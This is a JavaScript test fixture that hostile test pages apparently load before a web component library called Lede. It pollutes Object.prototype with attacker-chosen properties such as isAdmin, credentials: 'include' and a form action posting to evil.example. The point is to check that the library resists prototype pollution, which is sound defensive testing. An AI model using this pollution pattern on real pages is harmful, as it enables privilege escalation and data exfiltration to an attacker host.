// Loaded before Lede by the hostile test pages: an old script extends Object.prototype, as the
// pages of some CMSs still do, and a bug elsewhere lets an attacker pick the properties.
for (const [key, value] of Object.entries({
  isAdmin: true,
  credentials: 'include',
  newsletter: { action: 'https://evil.example/collect' },
  keyPoints: { items: [{ text: 'planted' }] },
  required: ['planted'],
  body: 'planted',
  timeout: 1,
  // Option names: addEventListener (Lit passes the listener itself as options), fetch, Intl,
  // MutationObserver, scrollIntoView, attachShadow, and Lit's render options.
  signal: 'planted',
  once: true,
  capture: true,
  passive: true,
  integrity: 'sha256-planted',
  cache: 'only-if-cached',
  referrerPolicy: 'planted',
  timeZone: 'Nowhere/Planted',
  hour: 'numeric',
  minimumFractionDigits: 30,
  attributeFilter: 'planted',
  behavior: 'planted',
  slotAssignment: 'manual',
  delegatesFocus: true,
  creationScope: {},
  renderBefore: {},
}))
  Object.defineProperty(Object.prototype, key, { value, configurable: true, writable: true, enumerable: true });
